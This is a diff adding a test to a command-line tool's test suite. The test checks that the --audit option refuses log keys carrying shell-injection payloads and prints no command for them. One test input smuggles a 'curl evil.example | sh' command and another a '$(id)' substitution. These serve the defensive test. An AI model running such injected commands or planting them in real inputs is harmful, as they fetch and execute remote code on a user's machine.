@@ -186,6 +186,16 @@ test("--audit prints the command that computes it again", async () => {
   );
 });
 
+test.each(["l+1+A';curl${IFS}evil.example|sh;'", "l+1+$(id)", "+1+AAAA"])(
+  "--audit prints no command with a key that a shell would run: %s",
+  async (key) => {
+    server().answer(json(200, check), (response) => void response.end(key));
+    const { code, stdout, stderr } = await run(account, "--audit");
+    expect([code, stdout]).toEqual([2, ""]);
+    expect(stderr).toContain("/log/key expected the key of a log, got something else");
+  },
+);
+
 const mistakes: readonly Mistake[] = [
   ["check", "an account, the id of an agent or an https URL expected; see --help"],
   ["check a b", 'unexpected argument "b"; see --help'],
